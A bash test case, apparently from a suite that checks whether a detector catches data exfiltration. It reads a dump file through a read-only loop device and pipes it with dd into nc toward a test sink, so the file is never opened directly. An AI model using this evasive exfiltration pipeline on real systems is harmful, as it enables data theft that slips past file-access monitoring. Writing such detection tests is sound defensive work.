#!/bin/bash
# B-loopdev: the dump is read through a loop device.
# flow: a kernel thread reads the backing file; dd reads the block device and never opens the dump.
# tools: losetup dd nc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
# Before 5.11 a module does not tell its layout.
! grep -q '^loop ' /proc/modules || from_linux 5.11
device=$(losetup -rf --show "$D") || skip "no loop device"
undo "losetup -d $device"
sink tcp
dd if="$device" bs=64k 2>/dev/null | nc -N "$SINK" "$PORT"
sunk
